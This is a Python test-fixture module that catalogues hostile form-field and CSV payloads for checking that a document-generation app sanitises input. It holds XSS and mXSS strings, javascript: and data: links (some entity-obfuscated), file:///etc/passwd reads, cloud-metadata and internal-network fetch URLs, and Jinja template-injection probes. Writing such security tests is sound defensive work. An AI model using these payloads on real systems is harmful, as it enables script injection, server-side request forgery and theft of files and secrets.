"""Hostile text a consultant's form fields, a sample file or a CSV cell might carry.

`@NET@` becomes the address of a local listener (tests/security/checks.NetworkSpy), and
`@FILE@`, `@CSS@`, `@SVG@`, `@PNG@` the absolute paths of canary files whose contents
would show in a PDF if read (tests/security/conftest.Canary); all must stay untouched.
Every payload is kept short enough for a one-line field (600 characters).
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    id: str
    category: str
    text: str

    def filled(self, net: str, file: str) -> str:
        return self.text.replace("@NET@", net).replace("@FILE@", file)


def _payloads(category: str, items: list[tuple[str, str]]) -> list[Payload]:
    return [Payload(ident, category, text) for ident, text in items]


SCRIPT = _payloads(
    "script and event handlers",
    [
        ("script-tag", "Before <script>alert('script-tag')</script> after"),
        ("script-src", "<SCRIPT SRC=http://@NET@/x.js></SCRIPT>"),
        ("img-onerror", "<img src=x onerror=alert(1)>"),
        ("svg-onload", "<svg onload=alert(1)><circle r=4 /></svg>"),
        ("body-onload", "<body onload=alert(1)>text"),
        ("allowed-tag-handler", '<div class="x" onmouseover="alert(1)">hover me</div>'),
        ("link-onclick", '<a href="https://example.com/" onclick="alert(1)">ok link</a>'),
        ("details-ontoggle", "<details open ontoggle=alert(1)><summary>s</summary></details>"),
        ("nested-script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
        ("attribute-breakout", '"><script>alert(1)</script><p title="'),
        ("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
        ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
        ("button-formaction", "<form><button formaction=javascript:alert(1)>go</button></form>"),
        ("form-action", '<form action="javascript:alert(1)"><input type=submit></form>'),
        ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
        ("object-js", '<object data="javascript:alert(1)"></object>'),
        ("embed-js", '<embed src="javascript:alert(1)">'),
        ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
        ("template-script", "<template><script>alert(1)</script></template>"),
        ("input-onfocus", "<input autofocus onfocus=alert(1)>"),
        ("markdown-html-block", "<div>\n\n*md* <script>alert(1)</script>\n\n</div>"),
    ],
)

LINKS = _payloads(
    "javascript:, data: and vbscript: links",
    [
        ("md-javascript", "[click](javascript:alert(1))"),
        ("md-mixed-case", "[click](JaVaScRiPt:alert(1))"),
        (
            "md-decimal-entities",
            "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
        ),
        ("md-hex-entity", "[click](&#x6A;avascript:alert(1))"),
        ("html-padded-entity", '<a href="&#0000106avascript&#0000058alert(1)">click</a>'),
        ("html-tab-entity", '<a href="jav&#x09;ascript:alert(1)">click</a>'),
        ("html-literal-tab", '<a href="java\tscript:alert(1)">click</a>'),
        ("html-newline", '<a href="java\nscript:alert(1)">click</a>'),
        ("html-leading-space", '<a href="  javascript:alert(1)">click</a>'),
        ("html-control-char", '<a href="\x01javascript:alert(1)">click</a>'),
        ("html-colon-entity", '<a href="javascript&colon;alert(1)">click</a>'),
        ("md-data-html", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
        ("html-data-upper", '<a href="DATA:text/html,<script>alert(1)</script>">click</a>'),
        ("md-vbscript", "[click](vbscript:msgbox(1))"),
        ("md-autolink", "<javascript:alert(1)>"),
        ("md-reference", "[click][evil]\n\n[evil]: javascript:alert(1)"),
        ("md-reference-title", '[click][e]\n\n[e]: javascript:alert(1) "title"'),
        ("md-comment-newline", "[click](javascript://%0aalert(1))"),
        ("md-file-link", "[passwd](file:///etc/passwd)"),
        ("md-title-breakout", '[click](https://example.com/ "a\\" onmouseover=\\"alert(1))'),
    ],
)

FETCH = _payloads(
    "file:// and internal-network URLs (Markdown, CSS, SVG, embeds)",
    [
        ("md-image-passwd", "![passwd](file:///etc/passwd)"),
        ("md-image-canary", "![canary](file://@PNG@)"),
        ("md-image-svg-canary", "![canary](file://@SVG@)"),
        ("md-image-network", "![net](http://@NET@/md-image.png)"),
        ("md-image-reference", "![net][img]\n\n[img]: http://@NET@/ref.png"),
        ("img-network", '<img src="http://@NET@/img.png">'),
        ("img-srcset", '<img srcset="http://@NET@/a.png 1x, file:///etc/passwd 2x">'),
        ("style-attr-file", '<p style="background:url(file:///etc/passwd)">styled</p>'),
        ("style-attr-network", '<div style="background-image:url(http://@NET@/bg.png)">x</div>'),
        ("style-import", "<style>@import url(http://@NET@/import.css);</style>"),
        ("style-file-font", "<style>@font-face{font-family:x;src:url(file://@FILE@)}</style>"),
        ("style-import-file", "<style>@import url(file://@CSS@);</style>"),
        ("link-stylesheet", '<link rel="stylesheet" href="http://@NET@/link.css">'),
        ("link-stylesheet-file", '<link rel="stylesheet" href="file://@CSS@">'),
        ("svg-image-file", '<svg><image href="file:///etc/passwd" width="10" height="10"/></svg>'),
        (
            "svg-xlink-network",
            '<svg xmlns:xlink="http://www.w3.org/1999/xlink">'
            '<image xlink:href="http://@NET@/svg.png"/></svg>',
        ),
        ("svg-use-file", '<svg><use href="file://@SVG@#x"/></svg>'),
        ("svg-image-canary", '<svg><image href="file://@PNG@" width="9" height="9"/></svg>'),
        (
            "svg-foreign-object",
            "<svg><foreignObject><img src=file:///etc/passwd></foreignObject></svg>",
        ),
        ("object-file", '<object data="file:///etc/passwd" type="text/plain"></object>'),
        ("object-svg-canary", '<object data="file://@SVG@" type="image/svg+xml"></object>'),
        ("embed-network", '<embed src="http://@NET@/embed.svg">'),
        ("iframe-file", '<iframe src="file:///etc/passwd"></iframe>'),
        ("video-poster", '<video poster="http://@NET@/poster.png"></video>'),
        (
            "table-background",
            '<table background="http://@NET@/t.png"><tr><td>cell</td></tr></table>',
        ),
        ("asset-traversal", '<img src="https://assets.proposals.invalid/@UP-PNG@">'),
        (
            "asset-encoded-traversal",
            '<img src="HTTPS://ASSETS.PROPOSALS.INVALID/@UP-PNG-ENC@">',
        ),
        ("metadata-link", "[cloud metadata](http://169.254.169.254/latest/meta-data/)"),
        ("local-link", "[local](http://@NET@/link-only)"),
    ],
)

BASE = _payloads(
    "<base> tricks",
    [
        ("base-file", '<base href="file:///etc/">[passwd](passwd)'),
        ("base-network", '<base href="http://@NET@/">![x](x.png)'),
        ("base-javascript", '<BASE HREF="javascript:alert(1)//">[rel](relative)'),
        ("base-in-head", '<head><base href="file://@PNG@"></head>![c](secret.png)'),
    ],
)

TEXT_TEMPLATES = _payloads(
    "template syntax in plain user text",
    [
        ("jinja-config", "{{ config }} {{ config.SECRET_KEY }}"),
        ("jinja-self", "{{ self.__init__.__globals__ }}"),
        ("jinja-statement", "{% for x in range(3) %}loop{% endfor %}"),
        ("format-string", "{0.__class__} %(secret)s %s"),
    ],
)

# The categories put through the wizard, the library editor, uploads and CSV cells.
MARKUP = SCRIPT + LINKS + FETCH + BASE + TEXT_TEMPLATES
CATEGORIES = {
    "script": SCRIPT,
    "links": LINKS,
    "fetch": FETCH,
    "base": BASE,
    "text-templates": TEXT_TEMPLATES,
}
